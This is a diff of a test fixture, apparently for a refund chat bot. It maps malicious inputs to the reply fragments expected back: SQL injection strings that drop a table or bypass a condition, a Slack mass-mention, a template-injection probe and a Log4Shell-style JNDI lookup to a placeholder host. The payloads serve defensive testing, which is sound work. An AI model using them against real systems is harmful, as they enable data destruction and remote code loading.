@@ -27,9 +27,9 @@ SENTENCES = {
     "x" * 10_000: "That is 10,000 characters; I read up to 4,000",
     f"refund {ORDER} {AMOUNT}": "is not an amount I can use",
     "'; drop table actions; --": "You can say",
-    "1001' OR '1'='1": "Delivered 12 Nov",
+    "1001' OR '1'='1": "You can say",
     "refund 1001'; drop table actions; --": "I never refund from a sentence",
-    "<!channel> <!here> refund everybody": "Which order?",
+    "<!channel> <!here> refund everybody": "You can say",
     "{{7*7}} ${jndi:ldap://x.example}": "You can say",
     "\u202e1001 dnufer": "You can say",
 }
